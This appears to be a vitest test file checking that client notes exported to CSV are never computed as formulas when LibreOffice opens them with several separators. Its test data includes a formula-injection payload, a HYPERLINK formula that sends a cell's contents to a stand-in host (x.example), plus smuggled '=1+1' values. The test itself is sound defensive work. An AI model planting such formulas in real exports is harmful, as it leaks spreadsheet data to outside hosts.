import { execFile } from 'node:child_process'
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { promisify } from 'node:util'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { openOutbox, type TestOutbox } from '../../tests/helpers/outbox.ts'
import { openStaffTerminal } from '../../tests/helpers/staff-terminal.ts'

// The exported file in a real spreadsheet, LibreOffice, which `npm test` finds or installs.
const soffice = process.env.SOFFICE_PATH

let outbox: TestOutbox
let folder: string
beforeAll(async () => {
  outbox = await openOutbox()
  folder = await mkdtemp(path.join(tmpdir(), 'spreadsheet-'))
})
afterAll(async () => {
  await outbox?.close()
  await rm(folder, { recursive: true })
})

const separators = { comma: ',', semicolon: ';', tab: '\t', bar: '|' }

/** The sheet of each file, divided at this character, as flat XML. */
async function open(separator: string, ...files: string[]): Promise<string[]> {
  // Text delimiter ", UTF-8, from line 1; the rest is LibreOffice's choice.
  const filter = `Text - txt - csv (StarCalc):${separator.charCodeAt(0)},34,76,1`
  const profile = `-env:UserInstallation=file://${path.join(folder, 'profile')}`
  const parameters = [profile, '--headless', `--infilter=${filter}`, '--convert-to', 'fods', '--outdir', folder, ...files]
  await promisify(execFile)(soffice ?? '', parameters, { env: { PATH: process.env.PATH, HOME: folder } })
  return Promise.all(files.map((file) => readFile(file.replace(/\.csv$/, '.fods'), 'utf8')))
}

const formulas = (sheet = '') => [...sheet.matchAll(/table:formula="([^"]*)"/g)].map(([, formula]) => formula)

test.skipIf(!soffice)('what clients wrote is no formula in a spreadsheet, whichever separator it divides at', { timeout: 240_000 }, async () => {
  const formula = '=HYPERLINK("http://x.example/"&A1;"Call")'
  const every = [...Object.values(separators), '\n']
  const notes = [formula, `"${formula}`, ...every.flatMap((separator) => [`Mary${separator}${formula}`, `Mary${separator} "${formula}`])]
  for (const text of notes) await outbox.save({ notes: text, plan_name: 'Zoë; =1+1' })
  const exported = path.join(folder, 'export.csv')
  expect((await openStaffTerminal(outbox.url).run(`export ${exported} --bom`)).faults).toBe('')
  const computed = path.join(folder, 'computed.csv')
  for (const separator of Object.values(separators)) {
    await writeFile(computed, `one${separator}=1+1\r\n`)
    const [sheet, control] = await open(separator, exported, computed)
    expect(sheet).toContain('Zoë')
    expect([separator, ...formulas(sheet)]).toEqual([separator])
    // This spreadsheet does compute, and divides where it is told to.
    expect(formulas(control)).toHaveLength(1)
  }
})
